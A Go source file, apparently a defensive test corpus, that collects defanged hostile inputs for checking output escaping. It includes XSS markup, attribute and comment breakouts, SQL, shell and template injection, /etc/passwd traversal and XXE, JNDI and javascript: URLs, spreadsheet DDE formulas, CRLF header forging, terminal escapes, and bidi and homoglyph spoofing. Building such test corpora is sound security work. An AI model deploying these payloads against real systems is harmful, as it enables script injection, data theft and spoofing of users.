// Package hostile is texts that attack whoever shows them: a page, a spreadsheet, a terminal, a header. What they would make carries Mark,
// or asks Elsewhere.
package hostile

import (
	"slices"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Mark is an attribute of every element that a text would make, the function that its scripts call, and in the name of its headers.
const Mark = "hurt"

// Elsewhere is the host that texts would ask for something: nobody answers there.
const Elsewhere = "127.0.0.1:1"

// Texts are all that can be kept as text, each once.
func Texts() []string {
	return slices.Concat(Markup, Attributes, Templates, Addresses, Breakouts, Terminal, Unseen, Formulas, Headers, Long)
}

// Lines are those of Texts without control characters.
func Lines() []string {
	return slices.DeleteFunc(Texts(), func(text string) bool { return strings.ContainsFunc(text, unicode.IsControl) })
}

// Packed is the texts, a blank between two, in as few pieces of at most that many bytes as their order takes. One that is longer is cut.
func Packed(texts []string, most int) (pieces []string) {
	piece := ""
	for _, text := range texts {
		if len(text) > most {
			text = strings.ToValidUTF8(text[:most], "")
		}
		if piece != "" && len(piece)+1+len(text) > most {
			pieces, piece = append(pieces, piece), ""
		}
		if piece != "" {
			piece += " "
		}
		piece += text
	}
	return append(pieces, piece)
}

// Legible are the parts of a text that look the same wherever it is shown as text, with single blanks: what cannot be seen, or is put as a
// sign instead, stands between them.
func Legible(text string) (parts []string) {
	for _, part := range strings.FieldsFunc(text, func(r rune) bool { return r == utf8.RuneError || !unicode.IsSpace(r) && !unicode.IsGraphic(r) }) {
		if part = strings.Join(strings.Fields(part), " "); part != "" {
			parts = append(parts, part)
		}
	}
	return parts
}

// Markup makes elements.
var Markup = []string{
	`<script hurt>hurt(1)</script>`,
	`<SCRIPT hurt SRC=//127.0.0.1:1/hurt.js></SCRIPT>`,
	`<script/hurt>hurt(2)</script>`,
	`<scr<script hurt>ipt>hurt(3)</scr</script>ipt>`,
	`<script hurt type=module>import "//127.0.0.1:1/hurt.js"</script>`,
	`<script hurt type=importmap>{"imports":{"a":"//127.0.0.1:1/hurt.js"}}</script>`,
	`<script hurt>hurt(4)<!--`,
	`</script><script hurt>hurt(5)</script>`,
	`</title><script hurt>hurt(6)</script>`,
	`</textarea><script hurt>hurt(7)</script>`,
	`</style><script hurt>hurt(8)</script>`,
	`</noscript><script hurt>hurt(9)</script>`,
	`</pre><img hurt src=x onerror=hurt(10)>`,
	`</code></pre></td></tr></table><img hurt src=x onerror=hurt(11)>`,
	`</option></select><img hurt src=x onerror=hurt(12)>`,
	`</summary></details><img hurt src=x onerror=hurt(13)>`,
	`</button></form><form hurt action=//127.0.0.1:1/><input hurt name=p type=password>`,
	`</main></body></html><script hurt>hurt(14)</script>`,
	`<img hurt src=x onerror=hurt(15)>`,
	`<img hurt src=x onerror="hurt(16)">`,
	`<img hurt src=x onerror='hurt(17)'>`,
	`<img hurt src=x:hurt onerror=eval(src)>`,
	`<img/hurt/src="x"/onerror=hurt(18)>`,
	"<img hurt src=x onerror=hurt`19`>",
	`<img hurt src=x onerror=&#104;&#117;&#114;&#116;(20)>`,
	`<img hurt src=//127.0.0.1:1/pixel.gif>`,
	`<img hurt srcset="//127.0.0.1:1/a 1x">`,
	`<image hurt src=//127.0.0.1:1/pixel.gif>`,
	`<picture hurt><source srcset=//127.0.0.1:1/a><img></picture>`,
	`<svg hurt onload=hurt(21)>`,
	`<svg hurt><script>hurt(22)</script></svg>`,
	`<svg hurt><script href=//127.0.0.1:1/hurt.js /></svg>`,
	`<svg hurt><a xlink:href="javascript:hurt(23)"><text y=20>click</text></a></svg>`,
	`<svg hurt><animate onbegin=hurt(24) attributeName=x dur=1s>`,
	`<svg hurt><set onbegin=hurt(25) attributeName=x></svg>`,
	`<svg hurt><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
	`<svg hurt><foreignObject><iframe srcdoc="<script>top.hurt(26)</script>"></iframe></foreignObject></svg>`,
	`<svg hurt><image href=//127.0.0.1:1/pixel.gif /></svg>`,
	`<svg hurt><style>@import "//127.0.0.1:1/a.css"</style></svg>`,
	`<svg hurt><desc><img src=x onerror=hurt(27)></desc></svg>`,
	`<math hurt><mtext><table><mglyph><style><img src=x onerror=hurt(28)>`,
	`<math hurt href="javascript:hurt(29)">click</math>`,
	`<math hurt><annotation-xml encoding="text/html"><img src=x onerror=hurt(30)>`,
	`<iframe hurt src="javascript:hurt(31)"></iframe>`,
	`<iframe hurt srcdoc="<script>top.hurt(32)</script>"></iframe>`,
	`<iframe hurt src=//127.0.0.1:1/></iframe>`,
	`<frameset hurt><frame src="javascript:hurt(33)">`,
	`<object hurt data="javascript:hurt(34)"></object>`,
	`<object hurt data=//127.0.0.1:1/x.swf></object>`,
	`<embed hurt src="javascript:hurt(35)">`,
	`<applet hurt code=x></applet>`,
	`<portal hurt src=//127.0.0.1:1/></portal>`,
	`<base hurt href=//127.0.0.1:1/>`,
	`<link hurt rel=stylesheet href=//127.0.0.1:1/a.css>`,
	`<link hurt rel=preload as=script href=//127.0.0.1:1/a.js>`,
	`<link hurt rel=prefetch href=//127.0.0.1:1/>`,
	`<link hurt rel=dns-prefetch href=//127.0.0.1:1/>`,
	`<meta hurt http-equiv=refresh content="0;url=//127.0.0.1:1/">`,
	`<meta hurt http-equiv=refresh content="0;url=javascript:hurt(36)">`,
	`<meta hurt http-equiv=Content-Security-Policy content="default-src *">`,
	`<meta hurt http-equiv=Set-Cookie content="hurt=1">`,
	`<style hurt>*{background:url(//127.0.0.1:1/)}</style>`,
	`<style hurt>@import url(//127.0.0.1:1/a.css);</style>`,
	`<div hurt style="background:url(//127.0.0.1:1/)">`,
	`<div hurt style="position:fixed;inset:0;z-index:9">covers all</div>`,
	`<body hurt onload=hurt(37)>`,
	`<body hurt background=//127.0.0.1:1/>`,
	`<html hurt onmouseover=hurt(38)>`,
	`<form hurt action=//127.0.0.1:1/><button>send</button></form>`,
	`<form hurt id=main><input name=attributes></form>`,
	`<input hurt autofocus onfocus=hurt(39)>`,
	`<input hurt type=image src=//127.0.0.1:1/ onerror=hurt(40)>`,
	`<button hurt formaction="javascript:hurt(41)" form=x>go</button>`,
	`<select hurt autofocus onfocus=hurt(42)></select>`,
	`<textarea hurt autofocus onfocus=hurt(43)></textarea>`,
	`<keygen hurt autofocus onfocus=hurt(44)>`,
	`<details hurt open ontoggle=hurt(45)>`,
	`<dialog hurt open onclose=hurt(46)>`,
	`<marquee hurt onstart=hurt(47)>x</marquee>`,
	`<video hurt src=x onerror=hurt(48)></video>`,
	`<video hurt><source onerror=hurt(49)></video>`,
	`<video hurt poster=//127.0.0.1:1/></video>`,
	`<audio hurt src=//127.0.0.1:1/ onerror=hurt(50)></audio>`,
	`<track hurt src=//127.0.0.1:1/>`,
	`<a hurt href="javascript:hurt(51)">click</a>`,
	`<a hurt href=//127.0.0.1:1/ ping=//127.0.0.1:1/>click</a>`,
	`<a hurt id=htmx name=config>x</a>`,
	`<area hurt href="javascript:hurt(52)">`,
	`<b hurt onpointerenter=hurt(53)>x</b>`,
	`<x hurt contenteditable onbeforeinput=hurt(54)>`,
	`<hurt-x hurt onclick=hurt(55)>x</hurt-x>`,
	`<template hurt shadowrootmode=open><script>hurt(56)</script></template>`,
	`<slot hurt onslotchange=hurt(57)></slot>`,
	`<xmp hurt><script>hurt(58)</script>`,
	`<plaintext hurt>`,
	`<noembed hurt><img src=x onerror=hurt(59)></noembed>`,
	`<isindex hurt type=image src=x onerror=hurt(60)>`,
	`<listing hurt>&lt;img src=x onerror=hurt(61)&gt;</listing>`,
	`<table hurt background=//127.0.0.1:1/><td>`,
	`<img hurt src="x` + "`" + `<script>hurt(62)</script>"` + "`" + `>`,
	`<<img hurt src=x onerror=hurt(63)>`,
	`<img hurt src=x onerror=hurt(64) //`,
	`&lt;script hurt&gt;hurt(65)&lt;/script&gt;`,
	`&#60;img hurt src=x onerror=hurt(66)&#62;`,
	`&amp;lt;img hurt src=x onerror=hurt(67)&amp;gt;`,
	`%3Cscript%20hurt%3Ehurt(68)%3C/script%3E`,
	`\u003cscript hurt\u003ehurt(69)\u003c/script\u003e`,
	`\x3cimg hurt src=x onerror=hurt(70)\x3e`,
	`＜script hurt＞hurt(71)＜/script＞`,
	`<ſcript hurt>hurt(72)</ſcript>`,
	`<div hurt hx-get="/sign-out" hx-trigger=load>x</div>`,
	`<div hurt hx-post="/tokens" hx-trigger="load" hx-vals='{"name":"x","role":"admin"}'>x</div>`,
	`<div hurt data-hx-get=//127.0.0.1:1/ data-hx-trigger=load>x</div>`,
	`<div hurt hx-on::load="hurt(73)" hx-trigger=load>x</div>`,
	`<div hurt hx-vals="js:{a:hurt(74)}" hx-get=/help hx-trigger=load>x</div>`,
	`<div hurt hx-ext=x hx-ws="connect://127.0.0.1:1/" sse-connect=//127.0.0.1:1/>x</div>`,
	`<div hurt id=main hx-swap-oob=true>x</div>`,
	`<ul hurt id=news data-stream=//127.0.0.1:1/></ul>`,
	`<form hurt method=post action=/sign-out data-submit><button autofocus>x</button></form>`,
}

// Attributes leave the value of an attribute.
var Attributes = []string{
	`" hurt onmouseover="hurt(1)`,
	`' hurt onmouseover='hurt(2)`,
	"` hurt onmouseover=`hurt(3)",
	`x hurt onmouseover=hurt(4) `,
	`"><img hurt src=x onerror=hurt(5)>`,
	`'><img hurt src=x onerror=hurt(6)>`,
	`"/><script hurt>hurt(7)</script>`,
	`" hurt autofocus onfocus="hurt(8)" x="`,
	`" hurt style="position:fixed;inset:0`,
	`" hurt accesskey=x onclick=hurt(9) "`,
	`" hurt hx-get="/sign-out" hx-trigger="load`,
	`" hurt hx-on:click="hurt(10)`,
	`" hurt data-hx-on--load="hurt(11)`,
	`" hurt formaction="javascript:hurt(12)`,
	`" hurt srcdoc="<script>hurt(13)</script>`,
	`" hurt popover id="x`,
	`&quot; hurt onmouseover=&quot;hurt(14)`,
	`&#34; hurt onmouseover=&#34;hurt(15)`,
	`&NewLine;" hurt onclick="hurt(16)`,
	`\" hurt onmouseover=\"hurt(17)`,
	`\'; hurt(18); //`,
	`";hurt(19);"`,
	`';hurt(20);'`,
	`)};hurt(21);//`,
}

// Templates are orders to what fills templates in, or joins statements and paths.
var Templates = []string{
	`{{constructor.constructor('hurt(1)')()}}`,
	`{{7*7}}{{hurt}}`,
	`${hurt(2)}`,
	`#{hurt(3)}`,
	`<%= hurt(4) %>`,
	`{% hurt %}`,
	`*{hurt(5)}`,
	`@{ hurt(6) }`,
	`[[${hurt(7)}]]`,
	`{{.Hurt}}{{template "hurt"}}{{printf "%s" .}}`,
	`%s%d%n%x%!(EXTRA hurt)`,
	`%[1]s {n} {0} {hurt}`,
	`${secret:HURT} ${HURT} $HURT`,
	`${jndi:ldap://127.0.0.1:1/hurt}`,
	`__proto__[hurt]=1`,
	`constructor.prototype.hurt`,
	`'; DROP TABLE redrive.audit; --hurt`,
	`" OR hurt=hurt --`,
	`1); SELECT pg_sleep(0); --hurt`,
	`%' OR '1'='1 hurt_\`,
	`$(hurt) ` + "`hurt`" + ` ;hurt|hurt&hurt>/dev/null`,
	`../../../../etc/passwd%00hurt`,
	`..\..\hurt`,
	`*)(uid=*))(|(hurt=*`,
	`<!ENTITY hurt SYSTEM "file:///etc/passwd">&hurt;`,
	`<?xml-stylesheet href="javascript:hurt(8)"?>`,
	`state:dead integration:"hurt" -hurt OR NOT ((`,
	`$.hurt[?(@.a == 'x')] @.hurt`,
}

// Addresses run a script or leave the site, where they are followed.
var Addresses = []string{
	`javascript:hurt(1)`,
	`JaVaScRiPt:hurt(2)`,
	` javascript:hurt(3)`,
	`java&#10;script:hurt(4)`,
	`javascript&colon;hurt(5)`,
	`javascript://127.0.0.1:1/%0ahurt(6)`,
	`\x6a\x61vascript:hurt(7)`,
	`data:text/html,<script>hurt(8)</script>`,
	`data:text/html;base64,PHNjcmlwdD5odXJ0KDkpPC9zY3JpcHQ+`,
	`data:image/svg+xml,<svg onload=hurt(10)>`,
	`vbscript:hurt(11)`,
	`blob:http://127.0.0.1:1/hurt`,
	`filesystem:http://127.0.0.1:1/hurt`,
	`view-source:http://127.0.0.1:1/hurt`,
	`file:///etc/passwd#hurt`,
	`//127.0.0.1:1/hurt`,
	`///127.0.0.1:1/hurt`,
	`\\127.0.0.1:1\hurt`,
	`/\127.0.0.1:1/hurt`,
	`/%09/127.0.0.1:1/hurt`,
	`https:127.0.0.1:1/hurt`,
	`http://user:hurt@127.0.0.1:1/`,
	`http://127.0.0.1:1#@localhost/hurt`,
	`mailto:a@127.0.0.1?subject=hurt%0d%0abcc:x`,
	`?return=//127.0.0.1:1/hurt&next=javascript:hurt(12)`,
	`#"><img hurt src=x onerror=hurt(13)>`,
	`/failures?hurt=%00%0d%0a`,
}

// Breakouts leave a comment, a quoted text or a block of data.
var Breakouts = []string{
	`--><script hurt>hurt(1)</script><!--`,
	`<!-- hurt --!><img hurt src=x onerror=hurt(2)>`,
	`<!--><img hurt src=x onerror=hurt(3)>-->`,
	`<!-- hurt`,
	`<![CDATA[<script hurt>hurt(4)</script>]]>`,
	`]]><script hurt>hurt(5)</script>`,
	`<!DOCTYPE hurt [<!ENTITY x "y">]>`,
	`<?php hurt(6); ?>`,
	`*/hurt(7)/*`,
	`{"hurt":"</script><script hurt>hurt(8)</script>"}`,
	`{"hurt": 1}}]}'"`,
	`\u2028hurt(9)\u2029`,
	`{"__proto__":{"hurt":1}}`,
	`"}]},{"id":"hurt","text":"`,
	`event: hurt data: {"text":"hurt"}`,
	`\`,
	`"`,
	`'`,
	`<`,
	`&`,
	`&hurt;`,
	`</`,
	`<!`,
}

// Terminal is what a terminal obeys.
var Terminal = []string{
	"\x1b[2Jhurt",
	"\x1b[31mhurt\x1b[0m",
	"\x1b[1A\x1b[2Khurt",
	"\x1b]0;hurt\x07",
	"\x1b]8;;http://127.0.0.1:1/\x1b\\hurt\x1b]8;;\x1b\\",
	"\x1b]52;c;aHVydA==\x07",
	"\x1b]1337;File=inline=1:aHVydA==\x07",
	"\x1bP$q\"p\x1b\\hurt",
	"\x1b[6nhurt",
	"\x1bc hurt",
	"\x1b(0hurt",
	"\x1b%Ghurt",
	"\u009b31mhurt",
	"\u009d0;hurt\u009c",
	"\u0090hurt\u009c",
	"hurt\b\b\b\bokay",
	"hurt\rokay",
	"hurt\x7f\x7f",
	"hurt\x0e\x0f",
	"hurt\x05\x07",
	"hurt\v\f",
	"hurt\u0085next",
}

// Unseen changes how text reads, or looks like other text.
var Unseen = []string{
	"hurt\u202egnp.exe",
	"\u202ahurt\u202c",
	"\u202bhurt",
	"\u202dhurt\u202c",
	"\u2066hurt\u2069",
	"\u2067hurt\u2069",
	"\u2068hurt",
	"\u200ehurt\u200f",
	"\u061churt",
	"hu\u200brt",
	"hu\u200crt\u200d",
	"hu\u2060rt",
	"\ufeffhurt",
	"hu\u00adrt",
	"hu\u180ert",
	"hurt\u2028line\u2029paragraph",
	"hurt\U000e0001\U000e0068\U000e007f",
	"hurt\ufff9a\ufffab\ufffb",
	"hu\u034frt",
	"hurt\ufe0f",
	"h\u0307\u0323\u0307\u0323\u0307\u0323\u0307\u0323urt",
	"hurt\u3164\u115f\u2800",
	"аdmin-hurt \u0430\u0435\u043e\u0440\u0441\u0443\u0445",
	"ａｄｍｉｎ-hurt",
	"admın-hurt ADMİN",
	"paypa1-hurt rn=m",
	"hurt\ue000\uf8ff",
	"hurt\ufdd0\uffff",
	"\U0001f9d1\u200d\U0001f4bb\U0001f3fd hurt",
	"مرحبا hurt שלום",
}

// Formulas are what a spreadsheet calculates.
var Formulas = []string{
	`=1+1+HURT`,
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://127.0.0.1:1/?"&A1,"hurt")`,
	`=IMPORTXML("http://127.0.0.1:1/","//hurt")`,
	`=WEBSERVICE("http://127.0.0.1:1/hurt")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`＝1+1`,
	`＋1+1`,
	`－1+1`,
	`＠SUM(1)`,
	`=1+1","=2+2`,
	`=1+1";'=2+2`,
	`";=1+1;"`,
	`=DDE("cmd";"/C calc";"hurt")`,
	`=-1+1`,
	`\.`,
}

// Headers end a header, or a line of a protocol, and begin another.
var Headers = []string{
	"x\r\nX-Hurt: 1",
	"x\nX-Hurt: 1",
	"x\rX-Hurt: 1",
	"x\r\n\r\n<script hurt>hurt(1)</script>",
	"x\r\nSet-Cookie: hurt=1",
	"x\r\nLocation: //127.0.0.1:1/",
	"x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
	"x%0d%0aX-Hurt:%201",
	"x嘊嘍X-Hurt: 1",
	`x"; filename="hurt.html`,
	`x; charset=utf-7`,
	"x\r\nbcc: hurt@127.0.0.1",
	"x\r\n.\r\nQUIT",
	"level=error msg=hurt\ntime=2026-01-01T00:00:00Z level=INFO msg=forged",
	`{"level":"INFO","msg":"hurt"}`,
	"hurt\r\nid: 7\r\nevent: message\r\ndata: {\"text\":\"hurt\"}\r\n\r\n",
}

// Long is more than anybody reads.
var Long = []string{
	"hurt" + strings.Repeat("A", 900),
	strings.Repeat("<b hurt>", 100),
	strings.Repeat(`"`, 300),
	strings.Repeat("\u202e", 60),
	strings.Repeat("{", 300),
	strings.Repeat("hurt\u0301", 60),
}

// Bytes are no text, or none that Postgres keeps: only payloads, answers and headers of brokers can be that.
var Bytes = [][]byte{
	[]byte("hurt\x00<script hurt>hurt(1)</script>"),
	[]byte("\x00\x01\x02hurt"),
	[]byte("\xff\xfe<\x00h\x00u\x00r\x00t\x00>\x00"),
	[]byte("\xfe\xff\x00<\x00h\x00u\x00r\x00t\x00>"),
	[]byte("+ADw-script hurt+AD4-hurt(2)+ADw-/script+AD4-"),
	[]byte("\xc0\xbcscript hurt\xc0\xbe"),
	[]byte("\xe0\x80\xbcimg hurt src=x onerror=hurt(3)\xe0\x80\xbe"),
	[]byte("<img hurt src=x\xc2 onerror=hurt(4)>"),
	[]byte("hurt\xed\xa0\x80\xed\xb0\x80"),
	[]byte("hurt\xf4\x90\x80\x80"),
	[]byte("hurt\x9b31m\x90"),
	[]byte("\x1f\x8bhurt"),
	[]byte("GIF89a/*hurt*/=hurt(5)//"),
	[]byte("%PDF-1.4 hurt /OpenAction"),
	[]byte("PK\x03\x04hurt"),
	[]byte("\xef\xbb\xbf<script hurt>hurt(6)</script>"),
	[]byte("{\"a\":\"hurt\xff\x00\"}"),
}
